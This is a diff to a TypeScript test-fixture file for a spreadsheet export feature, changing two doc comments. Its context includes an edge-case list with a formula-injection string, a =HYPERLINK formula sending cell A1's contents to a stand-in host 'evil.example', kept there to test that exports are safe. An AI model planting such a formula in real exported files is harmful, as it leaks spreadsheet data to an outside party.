@@ -1,7 +1,7 @@
 import type { Cell, CellKind } from '@shared/columns/column';
 import type { ExportColumn, ExportHead, ExportRow } from '@shared/export/format/format';
 
-/** Texts from real registers that break files. */
+/** Strings from real registers that break files. */
 export const edgeCaseTexts: readonly string[] = [
   '=HYPERLINK("http://evil.example/?x="&A1;"klicka")',
   '=1+1',
@@ -56,7 +56,7 @@ export function column(kind: CellKind, label: string = kind): ExportColumn {
   return { id: label, kind, label, width: 120 };
 }
 
-/** A head with these columns. */
+/** A header with these columns. */
 export function head(columns: readonly ExportColumn[], more: Partial<ExportHead> = {}): ExportHead {
   return {
     columns,
